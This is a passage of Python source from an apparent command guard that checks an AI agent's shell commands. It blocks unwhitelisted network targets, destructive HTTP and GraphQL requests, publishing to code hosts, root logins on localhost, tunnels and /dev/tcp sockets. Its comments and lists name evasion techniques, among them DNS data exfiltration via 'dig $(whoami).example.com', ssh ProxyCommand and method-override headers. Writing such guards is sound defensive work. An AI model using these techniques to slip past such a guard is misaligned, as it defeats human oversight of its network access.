                        verdict = _wget_setting(value.value, ctx, seg)
                        if not verdict.allowed:
                            return verdict
                    if name == "curl" and opt == "-K":
                        return block("network-unknown-target", seg, "URLs read from a config file")
                    break
        else:
            urls.append(word)
        i += 1
    globbing = name == "curl" and not any(a.value in {"-g", "--globoff"} for a in args)
    for url in urls:
        if url.value is None:
            return block("network-unknown-target", seg, "a URL computed at run time")
        if _RAW_SCHEME.match(url.value):
            return block(
                "network-unknown-target",
                seg,
                f"{url.value.split(':', 1)[0]}:// sends raw bytes to whatever service listens "
                "there (a local redis, memcached or mail server takes them as commands): the "
                "network policy's",
            )
        for each in curl_globbed(url.value) if globbing else [url.value]:
            verdict = network_url(each, ctx, seg)
            if not verdict.allowed:
                return verdict
    headers, bodies = _request_parts(name, args)
    for header in headers:
        key, colon, given = header.partition(":")
        if colon and key.strip().lower() in METHOD_OVERRIDES:
            methods.append(given.strip())  # ``X-HTTP-Method-Override: DELETE``
    for text in [u.value or "" for u in urls] + bodies:
        override = _METHOD_PARAMETER.search(text)
        if override is not None:
            methods.append(override.group(1))  # ``?_method=delete``: Rails, Laravel, Spring
    for method in methods:
        verdict = http_method(method, urls[0].value if urls else None, seg)
        if not verdict.allowed:
            return verdict
    for body in bodies:
        verdict = destroying_body(body, seg)
        if not verdict.allowed:
            return verdict
    if name == "curl" and urls and _curl_writes(args, methods):
        return _publishing_request(urls[0].value, seg)
    return ALLOW


METHOD_OVERRIDES = frozenset({"x-http-method-override", "x-http-method", "x-method-override"})
"""Headers by which a POST asks the server to act as another method."""
_METHOD_PARAMETER = LazyPattern(r"(?:^|[?&])_method=([A-Za-z]+)")
_HEADER_OPTIONS = {"curl": word_set("-H --header"), "wget": word_set("--header")}
_BODY_OPTIONS = {
    "curl": word_set(
        "-d --data --data-binary --data-raw --data-urlencode --data-ascii --json -F --form "
        "--form-string"
    ),
    "wget": word_set("--post-data --body-data"),
}


def _request_parts(name: str, args: list[Word]) -> tuple[list[str], list[str]]:
    """The headers and the bodies a curl or wget request sends (given inline)."""
    kind = "curl" if name == "curl" else "wget"
    headers, bodies = _HEADER_OPTIONS[kind], _BODY_OPTIONS[kind]
    found: tuple[list[str], list[str]] = ([], [])
    for k, word in enumerate(args):
        v = word.value or ""
        key, eq, value = v.partition("=")
        nxt = args[k + 1].value or "" if k + 1 < len(args) else ""
        for n, options in enumerate((headers, bodies)):
            if v.startswith("--") and key in options:
                found[n].append(value if eq else nxt)
            elif not v.startswith("--") and v[:2] in options:
                found[n].append(v[2:] if len(v) > 2 else nxt)  # ``-dTEXT``, ``-d TEXT``
    return found


def destroying_body(body: str, seg: str) -> Verdict:
    """A request body that carries SQL or a GraphQL mutation destroying what the service
    holds (``q=DROP DATABASE metrics`` to a database's HTTP API, ``mutation { deleteProject
    }``): refused as a service's destroying verb is."""
    from ondas.guards.bash_sql import destroying_sql

    what = destroying_sql(body)
    if what is not None:
        return block("service-destroy", seg, f"an HTTP request whose body is {what}")
    return _destroying_mutation([f"query={body}"], seg)


_CURL_BODY = word_set(
    "-d --data --data-binary --data-raw --data-urlencode --data-ascii --json -F --form "
    "--form-string -T --upload-file"
)
PUBLISHING_HOSTS = LazyPattern(
    r"(?i)^(api\.github\.com|uploads\.github\.com|github\.com|gitlab\.com|bitbucket\.org"
    r"|(upload\.|test\.)?pypi\.org|files\.pythonhosted\.org|registry\.npmjs\.org"
    r"|registry\.yarnpkg\.com|crates\.io|rubygems\.org|(www\.)?nuget\.org"
    r"|hub\.docker\.com|ghcr\.io|repo1\.maven\.org|oss\.sonatype\.org)$"
)
"""Code hosts and package registries: a request that sends them a body or changes what they
hold (a release, a file, a ref, an upload) publishes, as ``gh release create`` or ``twine
upload`` does; reading them (GET) is the ordinary fetching the whitelist is for."""


def _curl_writes(args: list[Word], methods: list[str | None]) -> bool:
    if any((m or "").upper() in CHANGING_METHODS for m in methods):
        return True
    for word in args:
        v = word.value or ""
        if v.partition("=")[0] in _CURL_BODY:
            return True
        if v.startswith("-") and not v.startswith("--") and v[1:2] in {"d", "F", "T"}:
            return True
    return False


def _publishing_request(url: str | None, seg: str) -> Verdict:
    from ondas.guards.whitelist import host_of

    host = host_of(url or "") or ""
    path = (url or "").split("://", 1)[-1].partition("/")[2]
    if PUBLISHING_HOSTS.match(host) and not path.startswith("graphql"):
        return block("publish", seg, f"a request that writes to {host} publishes")
    return ALLOW


_CURL_REDIRECTS = frozenset({"--resolve", "--connect-to"})
"""curl options that send a URL's connection to another address (``HOST:PORT:ADDR``,
``HOST:PORT:TARGET:PORT``): the whitelist judges where the connection goes, not the URL's name."""


def _redirected_host(opt: str, value: str | None, ctx: Ctx, seg: str) -> Verdict:
    if value is None:
        return block("network-unknown-target", seg, f"curl {opt} computed at run time")
    fields = value.lstrip("+-").split(":")
    target = fields[2] if len(fields) > 2 else ""
    target = target.strip("[]")
    if not target:
        return ALLOW  # ``--connect-to ::other:443`` keeps the name; an empty address drops it
    return network_url(f"https://{target}", ctx, seg)


def _wget_setting(value: str | None, ctx: Ctx, seg: str) -> Verdict:
    """``wget -e https_proxy=HOST``: a wgetrc setting that sends the traffic through a proxy."""
    if value is None:
        return block("network-unknown-target", seg, "a wget setting computed at run time")
    key, _eq, setting = value.partition("=")
    if key.strip().lower() in {"http_proxy", "https_proxy", "ftp_proxy"} and setting:
        url = setting if "://" in setting else f"http://{setting}"
        return network_url(url, ctx, seg)
    return ALLOW


DESTROYING_METHODS = word_set("DELETE PURGE")
"""HTTP methods that destroy what a service holds: the destroying verbs of HTTP, refused in
both modes like a service CLI's ``delete`` (the OS sandbox lets local services be reached)."""


def http_method(method: str | None, url: str | None, seg: str) -> Verdict:
    """Refuse a destroying HTTP method (``curl -X DELETE``, ``http DELETE URL``)."""
    if method is None:
        return block("dynamic-command", seg, "an HTTP method computed at run time")
    from ondas.guards.whitelist import host_of

    where = (host_of(url) or url) if url else "the service"
    if method.upper() in DESTROYING_METHODS:
        return block(
            "service-destroy", seg, f"an HTTP {method.upper()} destroys what {where} holds"
        )
    if method.upper() in CHANGING_METHODS and url:
        from ondas.guards.bash_known import destroys

        path = url.split("://", 1)[-1].partition("/")[2].split("?", 1)[0]
        for part in path.split("/"):
            if destroys(_url_tokens(part)):
                return block(
                    "service-destroy",
                    seg,
                    f"an HTTP {method.upper()} to {part} destroys what {where} holds",
                )
    return ALLOW


CHANGING_METHODS = word_set("POST PUT PATCH")
"""Methods whose action the URL's path names (``POST /index/_delete_by_query``)."""


def _url_tokens(part: str) -> set[str]:
    for separator in "_-.:":
        part = part.replace(separator, " ")
    return set(part.lower().split())


def _httpie(
    name: str, args: list[Word], ctx: Ctx, depth: int, seg: str, s: Stdin | None
) -> Verdict:
    method = "GET"
    named = positionals(args)
    for k, word in enumerate(named):
        v = word.value
        if v is None:
            return block("network-unknown-target", seg, "a URL computed at run time")
        if (v.isupper() and v.isalpha()) or (k == 0 and v.upper() in HTTP_METHODS):
            method = v.upper()  # ``xh delete URL``: xh and httpie read the method in any case
            continue
        if v.startswith(":") and v[1:2].isdigit():
            v = f"http://localhost{v}"  # ``:9200/orders``: httpie's and xh's localhost
        verdict = network_url(v, ctx, seg)
        if not verdict.allowed:
            return verdict
        verdict = http_method(method, v, seg)
        if verdict.allowed and (
            method in CHANGING_METHODS or any(_body_item(w.value) for w in named[k + 1 :])
        ):
            # round 16s: ``xh post api.github.com/repos/A/B/releases tag_name=v9``: a body
            # (a data field makes it a POST) sent to a forge or a registry publishes
            verdict = _publishing_request(v if "://" in v else f"https://{v}", seg)
        return verdict
    return ALLOW


def _body_item(item: str | None) -> bool:
    """An httpie/xh request item that is a body field (``name=value``, ``name:=json``,
    ``name@file``), not a header (``Name:value``) or a query parameter (``name==value``)."""
    if item is None:
        return True
    key, eq, _value = item.partition("=")
    if eq:
        return not _value.startswith("=") and not (":" in key and not key.endswith(":"))
    return "@" in item and ":" not in item.partition("@")[0]


HTTP_METHODS = word_set("GET HEAD POST PUT PATCH DELETE OPTIONS PURGE")


def _raw_network(
    name: str, args: list[Word], ctx: Ctx, depth: int, seg: str, s: Stdin | None
) -> Verdict:
    hosts: list[str | None] = []
    if name in _LOGINS and _root_here(args):
        return block(
            "privilege-escalation",
            seg,
            f"{name} logs in to this machine as root: privilege escalation is against the policy",
        )
    if name in {"ssh", "autossh", "mosh", "telnet", "nc", "ncat", "netcat", "ftp", "sftp", "tftp"}:
        with_value = word_set("-p -i -l -o -F -J -L -R -D -W -e -c -m -b -E -S -w -P -s -M")
        positional = positionals(args, with_value)
        if positional:
            v = positional[0].value
            hosts.append(None if v is None else v.rsplit("@", 1)[-1])
        if name in {"ssh", "autossh", "sftp"}:
            # round 15: jump hosts (``-J``, ``-o ProxyJump=``) are hosts the connection reaches
            for jump in option_values(args, frozenset({"-J"}), frozenset({"-J"})):
                hops = (jump.value or "").split(",") if jump.value is not None else [None]
                hosts += [None if h is None else h.rsplit("@", 1)[-1].split(":")[0] for h in hops]
        if name in {"nc", "ncat", "netcat"} and flag_set(args) & {"-l", "--listen"}:
            from ondas.guards.bash_sockets import listening_tool

            return listening_tool(name, args, ctx, seg)  # a server: what it runs, where it binds
    else:
        if name == "socat":
            from ondas.guards.bash_sockets import listening_tool

            verdict = listening_tool(name, args, ctx, seg)
            if not verdict.allowed:
                return verdict
        for word in positionals(args, frozenset({"-e", "-P", "-i", "-o", "-F", "-S"})):
            v = word.value
            if v is None:
                hosts.append(None)
                continue
            match = _SCP_LIKE.match(v)
            if _URLISH.match(v):
                hosts.append(v)
            elif match and "/" not in match.group(1):
                hosts.append(match.group(1))
    payload = ssh_payload(args, ctx, depth, seg, s) if name == "ssh" else ALLOW
    if payload.blocked and payload.category == DANGEROUS:
        return payload  # what runs there destroys: said before the host's policy
    for host in hosts:
        if host is None:
            return block("network-unknown-target", seg, "a host computed at run time")
        url = host if "://" in host else f"ssh://{host}"
        verdict = network_url(url, ctx, seg)
        if not verdict.allowed:
            return verdict
    if name == "ssh":
        return payload
    if name in {"scp", "sftp"}:
        for program in option_values(args, frozenset({"-S"}), frozenset({"-S"})):
            # the program scp runs in place of ssh, with the connection's arguments
            verdict = check_argv([program, Word("host", "host")], ctx, depth, seg)
            if not verdict.allowed:
                return verdict
    if name == "scp" and not hosts:
        # no operand names a host: scp copies locally, as ``cp`` does
        operands = positionals(args, _SCP_VALUE)
        if len(operands) > 1:
            return check_argv([Word("cp", "cp"), *operands], ctx, depth, seg)
    return ALLOW


_SCP_VALUE = word_set("-c -D -F -i -J -l -o -P -S -X")
_LOGINS = word_set("ssh autossh mosh sftp scp rsync")
_ROOT_HERE = LazyPattern(
    r"(?i)^(?:[a-z]+://)?root@(?:localhost|127(?:\.\d+){3}|\[?::1\]?|0\.0\.0\.0)(?:[:/]|$)"
)
_HERE = LazyPattern(r"(?i)^(?:localhost|127(?:\.\d+){3}|\[?::1\]?|0\.0\.0\.0)(?::|$)")


def _root_here(args: list[Word]) -> bool:
    """Whether a login names root on this machine (round 22): ``ssh root@localhost``,
    ``scp f root@127.0.0.1:/etc/``, ``ssh -l root localhost``, ``-o User=root``; the user's
    key may open root's account, which the agent's own user cannot reach otherwise."""
    values = [a.value or "" for a in args]
    if any(_ROOT_HERE.search(v) for v in values):
        return True
    as_root = any(
        (v == "-l" and k + 1 < len(values) and values[k + 1] == "root")
        or v == "-lroot"
        or v.lower().replace(" ", "").endswith("user=root")
        for k, v in enumerate(values)
    )
    return as_root and any(_HERE.search(v) for v in values)


_SSH_VALUE = word_set("-p -i -l -o -F -J -L -R -D -W -e -c -m -b -E -S -w -B -I -O -Q")
_SSH_COMMAND_OPTIONS = ("proxycommand", "localcommand", "remotecommand", "knownhostscommand")


def ssh_payload(args: list[Word], ctx: Ctx, depth: int, seg: str, s: Stdin | None) -> Verdict:
    """What ``ssh`` runs: ``-o ProxyCommand=...`` and its kin locally, and the remote command
    (the words after the host, joined as ssh joins them) or the script on its standard input,
    checked as command lines (the guard cannot see the remote machine; it errs toward it)."""
    values = [a.value for a in args]
    for k, v in enumerate(values):
        option = v[2:] if v is not None and v.startswith("-o") and len(v) > 2 else None
        if v == "-o" and k + 1 < len(values):
            option = values[k + 1]
        if option is None:
            continue
        cut = min((i for i in (option.find("="), option.find(" ")) if i >= 0), default=-1)
        key, value = (option, "") if cut < 0 else (option[:cut], option[cut + 1 :])
        if key.strip().lower() in _SSH_COMMAND_OPTIONS:
            verdict = ctx.check_source(value.strip(), ctx, depth + 1)
            if not verdict.allowed:
                return verdict
    remote = _after_host(args)
    if remote:
        if any(w.value is None for w in remote):
            return block("dynamic-command", seg, "a remote command computed at run time")
        return ctx.check_source(" ".join(w.value or "" for w in remote), ctx, depth + 1)
    if s is not None and s.kind != "file":
        from ondas.guards.bash_system import stdin_code

        return stdin_code(s, ctx, depth, seg, shell=True)
    return ALLOW


def _after_host(args: list[Word]) -> list[Word]:
    """The remote command of ``ssh [OPTIONS] HOST [OPTIONS] [--] CMD ARGS``: every word from the
    first one after the host's options that is not an option, its own options kept (ssh stops
    reading options there: ``ssh host rm -rf /srv`` runs ``rm -rf /srv``)."""
    host = False
    i = 0
    while i < len(args):
        v = args[i].value
        if v == "--":
            if host:
                return args[i + 1 :]
            i += 1
        elif v is not None and v.startswith("-") and len(v) > 1:
            i += 2 if v in _SSH_VALUE else 1
        elif host:
            return args[i:]
        else:
            host = True
            i += 1
    return []


def _gh(name: str, args: list[Word], ctx: Ctx, depth: int, seg: str, s: Stdin | None) -> Verdict:
    from ondas.guards.bash_known import destroying

    if [a.value for a in args[:2]] in (["extension", "install"], ["ext", "install"]):
        if ctx.in_container:
            return ALLOW
        return block(
            "package-install", seg, "gh extension install adds code gh runs, outside the project"
        )
    verdict = destroying(name, args, seg)  # ``gh gist delete``, as for every service CLI
    if not verdict.allowed:
        return verdict
    values = [a.value for a in args]
    verbs = [w.value for w in positionals(args, word_set("-R --repo --hostname"))[:2]]
    if None in verbs[:1] or (verbs[:1] != ["api"] and None in verbs):
        return block("dynamic-command", seg, "a gh verb computed at run time")  # ``gh pr $X``
    if values[:1] == ["api"]:
        host = "api.github.com"
        for i, v in enumerate(values):
            if v == "--hostname" and i + 1 < len(values):
                host = values[i + 1] or ""
        positional = positionals(
            args[1:],
            word_set(
                "-X --method -H --header -f -F --field --raw-field -q --jq -t "
                "--template --hostname --input --cache -p --preview"
            ),
        )
        path = positional[0].value if positional else ""
        if path is None:
            return block("network-unknown-target", seg, "a gh api path computed at run time")
        url = path if "://" in path else f"https://{host}/{path.lstrip('/')}"
        verdict = network_url(url, ctx, seg)
        method = api_method(values)
        if verdict.allowed and method is not None:
            verdict = http_method(method, url, seg)
        if verdict.allowed and method is not None and method.upper() in CHANGING_METHODS:
            graphql = path.strip("/") == "graphql"
            if not graphql or any("mutation" in (v or "") for v in values):
                # a change to GitHub (an issue, a gist, a release) is the policy's, as ``gh
                # issue create`` is; a GraphQL query sent with POST reads
                if graphql:
                    verdict = _destroying_mutation(values, seg)  # ``deleteRef``: not policy
                    if not verdict.allowed:
                        return verdict
                from ondas.guards.bash_infra import remote_change

                return remote_change("gh api", [method.upper(), path], seg)
        return verdict
    if values[:2] in (["issue", "create"], ["pr", "create"]):
        return _gh_create(str(values[0]), args[2:], ctx, seg)
    if values[:2] == ["repo", "clone"] and len(values) > 2:
        target = values[2]
        if target is None:
            return block("network-unknown-target", seg, "a repository computed at run time")
        url = target if "://" in target else f"https://github.com/{target}"
        verdict = network_url(url, ctx, seg)
        named = positionals(args[3:])
        if verdict.allowed and named and ctx.unattended and home_dot_directory(named[0].value, ctx):
            verdict = check_write_target(named[0], ctx, seg)  # ``gh repo clone X ~/.tmux/...``
        return verdict
    if values[:2] in (["release", "download"], ["run", "download"]):
        for place in option_values(args[2:], _GH_DOWNLOAD_TO, _GH_DOWNLOAD_TO):
            if place.value != "-":
                verdict = check_write_target(place, ctx, seg)  # ``-D ~/.local/bin``
                if not verdict.allowed:
                    return verdict
    remote_changes = (
        ["repo", "delete"], ["repo", "archive"], ["repo", "rename"], ["repo", "edit"],
        ["repo", "sync"], ["release", "delete"], ["release", "create"], ["release", "upload"],
        ["pr", "merge"], ["secret", "set"], ["secret", "delete"], ["workflow", "run"],
    )  # fmt: skip
    if verbs[:2] in remote_changes or (len(verbs) > 1 and _gh_changes(verbs[1])):
        # by position, past ``-R OWNER/REPO`` (``gh -R o/r pr merge 12``, round 18)
        return block("remote-mutation", seg, f"gh {verbs[0]} {verbs[1]} changes the remote")
    if (
        len(verbs) > 1
        and verbs[1] in _GH_BRANCH_PUSHES.get(str(verbs[0]), ())
        and not (verbs[1] == "develop" and {"-l", "--list"} & set(values))
    ):
        return block(
            "git-push",
            seg,
            f"gh {verbs[0]} {verbs[1]} makes or moves a branch on the remote, as a push "
            "does: the specification's push policy",
        )
    if (len(values) > 2 and values[1] == "deploy-key" and _gh_changes(values[2])) or (
        values[:2] == ["auth", "refresh"] and any(v in _GH_SCOPES for v in values)
    ):
        # round 15: a key that may push, or a token given wider scopes: the account's access
        return block("remote-mutation", seg, f"gh {values[0]} {values[1]} changes the account")
    return ALLOW


_GH_BRANCH_PUSHES: dict[str, frozenset[str]] = {
    "pr": frozenset({"update-branch", "revert"}),
    "issue": frozenset({"develop"}),
}
"""round 18 (left18): gh verbs that write a branch on the remote, pushes by another name:
``gh pr update-branch`` merges or rebases the base into the pull request's branch, ``gh pr
revert`` pushes a revert branch, ``gh issue develop`` creates one (``--list`` only reads)."""
_GH_SCOPES = word_set("-s --scopes")
_GH_DOWNLOAD_TO = word_set("-D --dir -O --output")
"""gh's download options naming the directory or file the assets are written to."""


def home_dot_directory(path: str | None, ctx: Ctx) -> bool:
    """``path`` lies in a hidden directory of the home (``~/.vim/pack``, ``~/.config/nvim``,
    ``~/.oh-my-zsh/custom/plugins``, ``~/.local/bin``): where shells, editors and other tools
    load configuration, plugins and programs from at their next start (round 16). A new
    repository there is code they run later, not a checkout beside the project: refused in
    unattended runs, where nobody sees it land (a CI job that clones a test dependency into
    nvim's ``pack/*/start``, public repos r12, passes attended)."""
    if path is None or classify(path, ctx) != "home-inside":
        return False
    full = ctx.home + path[1:] if path.startswith("~") else path
    if not full.startswith("/"):
        full = posixpath.join(ctx.cwd or "/", full)
    first = posixpath.relpath(posixpath.normpath(full), posixpath.normpath(ctx.home))
    return first.startswith(".")


_GH_CHANGES = word_set(
    "merge close reopen archive unarchive comment review lock unlock transfer pin unpin "
    "cancel rerun disable enable edit rename delete create set upload sync add"
)
"""Verbs of a ``gh`` sub-command that change the remote (``gh workflow disable``, ``gh run
cancel``, ``gh label create``); ``pr``/``issue create`` are judged by their target above."""


_GRAPHQL_MUTATION = LazyPattern(r"(?:^|[\s{}\"'])mutation\b")
_GRAPHQL_FIELD = LazyPattern(r"\b([a-z]+[A-Z][A-Za-z]*)\s*[({]")


def _destroying_mutation(values: list[str | None], seg: str) -> Verdict:
    """A GraphQL ``mutation`` through ``gh api graphql`` whose field is named for a deletion
    (``deleteRef``, ``deleteRepository``) destroys what it names: ``service-destroy``, not the
    policy's ``remote-mutation`` that other mutations are."""
    for v in values:
        if v is not None and v.startswith(("--raw-field=", "--field=")):
            v = v.partition("=")[2]  # ``--raw-field=query=...``
        elif v is not None and v.startswith(("-fquery=", "-Fquery=")):
            v = v[2:]
        query = v.partition("=")[2] if v is not None and v.startswith("query=") else None
        if query is None or not _GRAPHQL_MUTATION.search(query):
            continue
        from ondas.guards.bash_known import verb_destroys

        for match in _GRAPHQL_FIELD.finditer(query):
            if verb_destroys(match.group(1)):
                return block(
                    "service-destroy",
                    seg,
                    f"the GraphQL mutation {match.group(1)} destroys what it names",
                )
    return ALLOW


def _gh_changes(verb: str | None) -> bool:
    return verb is None or verb in _GH_CHANGES


def _gh_create(kind: str, args: list[Word], ctx: Ctx, seg: str) -> Verdict:
    """``gh issue|pr create``: the target repository (``--repo``, else the current one's
    origin) must be whitelisted; an issue on the toolkit's own repository is the exception."""
    repo: str | None = None
    explicit = False
    for i, word in enumerate(args):
        v = word.value
        if v is None:
            continue
        if v in {"-R", "--repo"}:
            explicit = True
            repo = args[i + 1].value if i + 1 < len(args) else None
        elif v.startswith("--repo="):
            explicit, repo = True, v.split("=", 1)[1]
    if explicit and repo is None:
        return block("network-unknown-target", seg, "a gh repository computed at run time")
    from ondas.guards.git_remote import github_repo, remote_url, toolkit_repo

    if not explicit:
        # The current repository's origin; unknown: gh's default host as a whole, which only
        # a whitelist entry for the entire host lets through.
        repo = github_repo(remote_url(ctx.cwd or ctx.project, "origin")) or ""
    assert repo is not None
    target = repo if "://" in repo else f"https://github.com/{repo.strip('/')}"
    if kind == "issue" and toolkit_repo() and github_repo(target) == toolkit_repo():
        return ALLOW
    return network_url(target, ctx, seg)


def dev_socket(word: Word, ctx: Ctx, seg: str) -> Verdict | None:
    """A redirect through bash's ``/dev/tcp``/``/dev/udp`` is a network call; None otherwise."""
    value = word.value
    if value is None or not value.startswith("/dev/"):
        return None  # ``> out.txt``: no pattern is run (nor ``re`` imported) for a plain file
    match = re.match(r"^/dev/(tcp|udp)/([^/]+)/(\d+)", value)
    if match is None:
        return None
    return network_url(f"{match.group(1)}://{match.group(2)}:{match.group(3)}", ctx, seg)


register("git", _git)
register("curl wget wget2", _curl)
register("http https xh", _httpie)
register("ssh scp sftp rsync mosh telnet nc ncat netcat ftp tftp socat", _raw_network)
NETWORK_CLIENTS = word_set(
    "autossh aria2c axel lynx w3m links elinks lftp curlie websocat wscat grpcurl yt-dlp "
    "youtube-dl chisel svn hg cvs"
)
"""Clients whose operands are the URLs or ``HOST:PORT`` they connect to (downloaders, text
browsers, ftp/websocket/grpc clients, tunnels): judged like ``socat``'s by the whitelist."""


def _network_client(
    name: str, args: list[Word], ctx: Ctx, depth: int, seg: str, s: Stdin | None
) -> Verdict:
    """Judge where a network client connects; the rest of what it does (``lftp -e '!CMD'``,
    ``aria2c --on-download-complete``) is judged as any program no rule knows."""
    if name in {"hg", "svn"}:
        verdict = _other_vcs(name, args, ctx, seg)
    elif name == "cvs":
        verdict = _cvs(args, seg)
    else:
        verdict = _raw_network(name, args, ctx, depth, seg, s)
    if verdict.allowed and name == "lftp":
        verdict = _lftp_hosts(args, ctx, seg)  # round 22: ``lftp -c 'open HOST; ls'``
    if not verdict.allowed:
        return verdict
    if name == "hg":
        from ondas.guards.bash_vcs import hg  # round 17: its verbs as git's counterparts

        return hg(name, args, ctx, seg, s)
    from ondas.guards.bash_known import unknown_program

    return unknown_program(name, args, ctx, seg, s)


register(" ".join(sorted(NETWORK_CLIENTS)), _network_client)

_LFTP_OPEN = LazyPattern(r"(?:^|[;&|\n]\s*)(?:open|connect|o)\s+(?:-[a-z]\s+\S+\s+)*([^\s;&|]+)")


def _lftp_hosts(args: list[Word], ctx: Ctx, seg: str) -> Verdict:
    """The hosts lftp's own commands open (``-c 'open HOST; get F'``, ``-e CMDS``; round 22):
    judged by the whitelist as an operand's host is; a command file (``-f FILE``) whose hosts
    the guard cannot read is refused unattended."""
    for word in option_values(args, word_set("-c -e")):
        if word.value is None:
            return block("network-unknown-target", seg, "lftp commands computed at run time")
        for match in _LFTP_OPEN.finditer(word.value):
            host = match.group(1)
            verdict = network_url(host if "://" in host else f"ftp://{host}", ctx, seg)
            if not verdict.allowed:
                return verdict
    if ctx.unattended and any(True for _ in option_values(args, word_set("-f"))):
        return block(
            "network-unknown-target",
            seg,
            "lftp runs the commands of a file, whose hosts the guard does not read",
        )
    return ALLOW


TUNNELS = word_set("ngrok lt localtunnel bore frpc cloudflared tailscale")
"""Programs that expose a local port to the internet through a relay (``ngrok http 8000``,
``cloudflared tunnel``, ``tailscale funnel``): a connection the whitelist cannot judge."""


def _tunnel(
    name: str, args: list[Word], ctx: Ctx, depth: int, seg: str, s: Stdin | None
) -> Verdict:
    words = {a.value for a in positionals(args)}
    if (
        (name == "cloudflared" and words & {"tunnel", "access", None})
        or (name == "tailscale" and words & {"funnel", None})
        or name not in {"cloudflared", "tailscale"}
    ):
        return block(
            "network-not-whitelisted",
            seg,
            f"{name} exposes a local port through a relay outside the whitelist",
        )
    from ondas.guards.bash_known import unknown_program

    return unknown_program(name, args, ctx, seg, s)


register(" ".join(sorted(TUNNELS)), _tunnel)

_VCS_PUBLISH = word_set("push commit ci import")
"""Mercurial's and Subversion's verbs that send history to a server: ``svn commit`` writes to
the repository on the server, as ``git push`` does."""
_VCS_VALUE = word_set("-m --message -F --file -r --rev -b --branch -u --user -l --logfile")


def _svn_commits(sub: str, args: list[Word]) -> bool:
    from ondas.guards.bash_vcs import svn_commits  # loaded for svn's lines only

    return svn_commits(sub, args)


def _other_vcs(name: str, args: list[Word], ctx: Ctx, seg: str) -> Verdict:
    positional = positionals(args, _VCS_VALUE)
    sub = positional[0].value if positional else None
    if sub in _VCS_PUBLISH and (name == "svn" or sub == "push"):
        return block("git-push", seg, f"{name} {sub} sends history to a server: for humans to do")
    if name == "svn" and sub is not None and _svn_commits(sub, args):
        return block(
            "git-push", seg, f"svn {sub} to a repository URL commits to the server: for humans"
        )
    for word in positional[1:]:
        v = word.value
        if v is None:
            return block("network-unknown-target", seg, "a URL computed at run time")
        if _URLISH.match(v) and not v.lower().startswith("file://"):
            verdict = network_url(v, ctx, seg)
            if not verdict.allowed:
                return verdict
    return ALLOW


_CVS_PUBLISH = word_set("commit ci com import im imp tag ta freeze rtag rt rfreeze")
"""CVS's verbs that write the repository on the server (round 23s): a commit, an import, a tag
set or moved or deleted (``tag -d``) in the repository; ``add`` and ``remove`` only schedule
what the next commit sends."""
_CVS_GLOBAL_VALUED = word_set("-d -e -s -T -z -b")


def _cvs(args: list[Word], seg: str) -> Verdict:
    """``cvs [GLOBAL OPTIONS] VERB ...``: a verb of :data:`_CVS_PUBLISH` sends history to the
    server, as ``svn commit`` does."""
    verb = next(iter(positionals(args, _CVS_GLOBAL_VALUED)), None)
    if verb is not None and verb.value in _CVS_PUBLISH:
        return block(
            "git-push", seg, f"cvs {verb.value} writes the repository on the server: for humans"
        )
    return ALLOW


def api_method(values: list[str | None]) -> str | None:
    """The HTTP method of ``gh api``/``glab api``/``tea api``: the one ``-X``/``--method``
    names, else POST when fields or a body are given (each sends them with POST unless told
    otherwise), else None (GET). Go's option parsers read ``-X=DELETE`` as ``-X DELETE``
    (round 23), as they read ``-XDELETE`` and ``--method=DELETE``."""
    method = None
    for i, v in enumerate(values[:-1]):
        if v in {"-X", "--method"}:
            method = values[i + 1]
        elif v is not None and v.startswith(("-X", "--method=")) and len(v) > 2:
            method = v.split("=", 1)[1] if v.startswith(("--method=", "-X=")) else v[2:]
    if method is None and any(
        v in {"-f", "-F", "--field", "--raw-field", "--input", "-d", "--data"}
        or (v or "").startswith(("--field=", "--raw-field=", "--input=", "--data="))
        for v in values
    ):
        method = "POST"
    return method


def _glab(name: str, args: list[Word], ctx: Ctx, depth: int, seg: str, s: Stdin | None) -> Verdict:
    """GitLab's ``glab`` and Gitea's ``tea`` have ``gh``'s shape: a verb of a sub-command that
    changes the remote (``glab mr merge``, ``tea releases create``, ``glab repo delete``) is
    refused as ``gh``'s are, and so is an ``api`` call with a changing method (``glab api -X
    POST projects/1/jobs/2/erase``; fields sent without ``-X`` are a POST), as ``gh api``'s;
    the rest is the default's for a program no rule names."""
    values = [a.value for a in args]
    if values[:1] == ["api"]:
        method = api_method(values)
        if method is None and any(v is None for v in values):
            return block("dynamic-command", seg, f"a {name} api call computed at run time")
        if method is not None and method.upper() in CHANGING_METHODS:
            from ondas.guards.bash_infra import remote_change

            return remote_change(f"{name} api", [method.upper()], seg)
    local = values[:1] in (["api"], ["config"], ["alias"], ["auth"], ["completion"])  # local
    if len(values) > 1 and not local and (values[1] is None or _gh_changes(values[1])):
        return block("remote-mutation", seg, f"{name} {values[0]} {values[1]} changes the remote")
    if len(values) > 1 and values[1] in {"approve", "revoke", "unapprove"}:
        return block("remote-mutation", seg, f"{name} {values[0]} {values[1]} changes the remote")
    from ondas.guards.bash_known import unknown_program

    return unknown_program(name, args, ctx, seg, s)


register("gh", _gh)
register("glab tea", _glab)


_LOOKUP_VALUE = word_set("-p -t -c -q -x -k -b -f -y -W -w -i -I -s -m -T -Q -g -h -type -port")
_RECORD_TYPES = word_set(
    "a aaaa mx txt any ns cname soa ptr srv caa ds dnskey https svcb axfr ixfr in ch hs"
)


def _lookup(
    name: str, args: list[Word], ctx: Ctx, depth: int, seg: str, s: Stdin | None
) -> Verdict:
    """DNS and reachability probes (``dig``, ``nslookup``, ``host``, ``ping``...) talk to the
    host they name, as ``curl`` does: a host outside the whitelist, or one computed at run time
    (``dig $(whoami).example.com`` spells data into a query), is the network policy's."""
    for word in positionals(args, _LOOKUP_VALUE):
        host = word.value
        if host is None:
            return block("network-unknown-target", seg, f"{name} of a host computed at run time")
        host = host.lstrip("@").rstrip(".")
        if not host or host.lower() in _RECORD_TYPES or host.startswith("+"):
            continue
        verdict = network_url(f"https://{host}/", ctx, seg)
        if not verdict.allowed:
            return verdict
    return ALLOW


register("dig drill nslookup host whois ping ping6 traceroute tracepath mtr", _lookup)


def _open(name: str, args: list[Word], ctx: Ctx, depth: int, seg: str, s: Stdin | None) -> Verdict:
    """``open``/``xdg-open`` show a file in its viewer or a URL in the browser: a URL is the
    network policy's; naming an application to start (``open -a App``) is an unknown program
    in unattended runs."""
    for word in args:
        v = word.value
        if v is None:
            return block("network-unknown-target", seg, f"{name} of a target computed at run time")
        if "://" in v:
            verdict = network_url(v, ctx, seg)
            if not verdict.allowed:
                return verdict
        elif ctx.unattended and v in {"-a", "-b", "--args"}:
            return block("unknown-program", seg, f"{name} {v} starts an application")
    return ALLOW


register("open xdg-open", _open)

BROWSERS = word_set(
    "firefox firefox-esr google-chrome google-chrome-stable chromium chromium-browser "
